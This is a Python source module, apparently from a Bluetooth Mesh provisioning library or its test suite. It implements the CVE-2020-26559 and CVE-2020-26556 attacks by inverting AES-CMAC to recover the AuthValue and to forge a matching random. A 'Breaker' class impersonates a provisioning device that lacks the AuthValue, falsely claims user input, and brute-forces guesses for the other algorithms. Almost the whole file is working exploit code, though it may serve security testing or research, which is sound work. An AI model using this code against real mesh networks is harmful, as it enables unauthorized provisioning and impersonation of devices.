"""What an attacker computes under CMAC: AuthValues, and Randoms for commitments already made.

Confirmation = AES-CMAC(ConfirmationKey, Random || AuthValue), two whole blocks, under a key that
does not depend on the AuthValue. Whoever takes part in the key agreement can run that backwards.
"""

from __future__ import annotations

from collections.abc import Iterable

from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

from meshwright.core.crypto import KeyPair, aes_ecb, k1
from meshwright.core.effects import Effect, SendPdu
from meshwright.core.provisioning.device import DeviceMachine
from meshwright.core.provisioning.fields import Algorithm, AuthenticationMethod, PduType
from meshwright.core.provisioning.suites import SUITES, Confirming

_R128 = 0x87


def xor(left: bytes, right: bytes) -> bytes:
    """Add two blocks."""
    return bytes(a ^ b for a, b in zip(left, right, strict=True))


def subkey(key: bytes) -> bytes:
    """Return K1 of AES-CMAC (RFC 4493, 2.3)."""
    zero = int.from_bytes(aes_ecb(key, bytes(16)), "big")
    doubled = zero << 1 & (1 << 128) - 1
    return (doubled ^ (_R128 if zero >> 127 else 0)).to_bytes(16, "big")


def decrypt(key: bytes, block: bytes) -> bytes:
    """Undo `aes_ecb`."""
    decryptor = Cipher(algorithms.AES(key), modes.ECB()).decryptor()  # noqa: S305 - one block
    return decryptor.update(block)


def recovered_auth_value(key: bytes, random: bytes, confirmation: bytes) -> bytes:
    """CVE-2020-26559: the AuthValue behind a confirmation whose random is known."""
    last = decrypt(key, confirmation)
    return xor(xor(last, subkey(key)), aes_ecb(key, random))


def fitting_random(key: bytes, auth_value: bytes, confirmation: bytes) -> bytes:
    """CVE-2020-26556: a random for which any confirmation that was sent is right."""
    first = xor(xor(decrypt(key, confirmation), subkey(key)), auth_value)
    return decrypt(key, first)


class Breaker:
    """A device without the AuthValue that commits to nothing and answers when it knows more.

    Up to Start it is `honest`, a device of its own. `guesses` are AuthValues that it tries where it
    cannot compute them; `found` is the one that explains our confirmation.
    """

    commitment = bytes(range(1, 33))

    def __init__(self, honest: DeviceMachine, guesses: Iterable[bytes] = ()) -> None:
        self._honest, self._guesses = honest, guesses
        self._pair = KeyPair(0x7777777 << 200 | 3)
        self._parts: list[bytes] = []
        self._confirmation = b""
        self._algorithm = Algorithm.CMAC
        self._method = AuthenticationMethod.NO_OOB
        self.found: bytes | None = None

    def bearer_opened(self, now: float) -> list[Effect]:
        return self._honest.bearer_opened(now)

    def bearer_closed(self, now: float) -> list[Effect]:
        return self._honest.bearer_closed(now)

    def next_deadline(self) -> float | None:
        return self._honest.next_deadline()

    def handle_deadline(self, now: float) -> list[Effect]:
        return self._honest.handle_deadline(now)

    def receive(self, pdu: bytes, now: float) -> list[Effect]:
        match pdu[0]:
            case PduType.PUBLIC_KEY:
                return self._on_key(pdu[1:])
            case PduType.CONFIRMATION:
                self._confirmation = pdu[1:]
                return [SendPdu(b"\x05" + self.commitment[: len(pdu) - 1])]
            case PduType.RANDOM:
                return [SendPdu(b"\x06" + self._break(pdu[1:]))]
            case PduType.INVITE | PduType.START:
                return self._kept(pdu, now)
            case _:
                return self._honest.receive(pdu, now)

    def _kept(self, pdu: bytes, now: float) -> list[Effect]:
        effects = self._honest.receive(pdu, now)
        sent = [effect.pdu[1:] for effect in effects if isinstance(effect, SendPdu)]
        self._parts += [pdu[1:], *sent]
        if pdu[0] == PduType.START:
            self._algorithm, self._method = Algorithm(pdu[1]), AuthenticationMethod(pdu[3])
        return [effect for effect in effects if isinstance(effect, SendPdu)]

    def _on_key(self, peer: bytes) -> list[Effect]:
        """Send a key of its own, and claim that its person has entered what was asked for."""
        self._inputs = b"".join(self._parts) + peer + self._pair.public
        self._secret = self._pair.shared_secret(peer)
        entered = self._method == AuthenticationMethod.INPUT
        return [SendPdu(b"\x03" + self._pair.public), *([SendPdu(b"\x04")] if entered else [])]

    def _break(self, random: bytes) -> bytes:
        if self._algorithm is Algorithm.CMAC:
            return self._break_cmac(random)
        self.found = self._searched(random)
        return bytes(31) + b"\x01"

    def _break_cmac(self, random: bytes) -> bytes:
        salt = SUITES[Algorithm.CMAC].salt(self._inputs)
        key = k1(self._secret, salt, b"prck")
        self.found = recovered_auth_value(key, random, self._confirmation)
        return fitting_random(key, self.found, self.commitment[:16])

    def _searched(self, random: bytes) -> bytes | None:
        suite = SUITES[self._algorithm]
        for guess in self._guesses:
            tried = Confirming.begin(suite, self._inputs, self._secret, guess)
            if tried.confirmation(random) == self._confirmation:
                return guess
        return None
